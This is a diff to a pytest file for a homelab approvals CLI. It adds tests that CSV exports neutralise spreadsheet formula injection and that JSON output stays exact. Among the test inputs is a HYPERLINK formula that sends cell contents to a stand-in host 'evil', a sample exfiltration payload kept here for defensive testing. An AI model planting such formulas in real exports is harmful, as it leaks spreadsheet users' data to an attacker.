@@ -22,6 +22,7 @@ import pytest
 
 from homelab_approvals import __version__
 from homelab_approvals.cli.main import main
+from homelab_approvals.cli.output import formula_safe
 from homelab_approvals.cli.parser import build_parser
 from homelab_approvals.cli.session import Session
 from homelab_approvals.domain.views import ActionView, EventView, ServerView
@@ -441,6 +442,32 @@ def test_csv_quotes_commas_quotes_and_newlines(cli: Cli, world: ApprovalService)
     world.reject(1, "bob", reason)
     rows = list(csv.DictReader(io.StringIO(cli("events", "--csv", "--action", "1").out)))
     assert rows[-1]["reason"] == reason
+
+
+@pytest.mark.parametrize(
+    "reason",
+    ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx"],
+)
+def test_csv_neutralises_formulas_and_json_stays_exact(
+    cli: Cli, world: ApprovalService, reason: str
+) -> None:
+    """Issue 16, OWASP's CSV injection advice: a leading single quote, the rest exact."""
+    conn = sqlite3.connect(world.db.label)
+    conn.execute("DROP TRIGGER action_events_no_update")  # test data only: set the reason
+    conn.execute("UPDATE action_events SET reason = ? WHERE id = 1", (reason,))
+    conn.commit()
+    conn.close()
+    rows = list(csv.DictReader(io.StringIO(cli("events", "--csv").out, newline="")))
+    assert rows[0]["reason"] == "'" + reason
+    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+    assert cli("events", "--json").json()[0]["reason"] == reason
+
+
+def test_formula_safe_covers_owasps_list() -> None:
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert formula_safe(f"{start}1") == f"'{start}1"
+    assert formula_safe("restart nginx") == "restart nginx"
+    assert formula_safe(None) == ""
 
 
 # -- list filters, sorting, paging ------------------------------------------------------------
@@ -932,7 +959,21 @@ def test_busy_database_is_one_line_and_changes_nothing(
 def test_unexpected_errors_are_one_line_exit_1(
     cli: Cli, seeded: ApprovalService, db_path: Path
 ) -> None:
-    # A row no code expects: a HomelabCmd table with a timestamp that is not one.
+    # A table no code expects: a HomelabCmd table that lost a column.
+    conn = sqlite3.connect(db_path)
+    conn.execute("ALTER TABLE remediation_actions DROP COLUMN stderr")
+    conn.commit()
+    conn.close()
+    run = cli("list")
+    assert run.code == 1
+    assert run.error_line.startswith("error: ")
+    assert "Traceback" not in run.err
+
+
+def test_a_time_that_is_no_time_is_shown_marked_and_the_rest_listed(
+    cli: Cli, seeded: ApprovalService, db_path: Path
+) -> None:
+    """Issue 16: it used to make every list fail (exit 1)."""
     conn = sqlite3.connect(db_path)
     conn.execute(
         "INSERT INTO remediation_actions (server_id, action_type, status, command, created_at,"
@@ -941,9 +982,9 @@ def test_unexpected_errors_are_one_line_exit_1(
     conn.commit()
     conn.close()
     run = cli("list")
-    assert run.code == 1
-    assert run.error_line.startswith("error: ")
-    assert "Traceback" not in run.err
+    assert run.code == 0
+    assert "\u26a0not a time" in run.out
+    assert len(run.out.splitlines()) == 2 + len(seeded.list_actions().rows)
 
 
 # -- hostile text ------------------------------------------------------------------------------
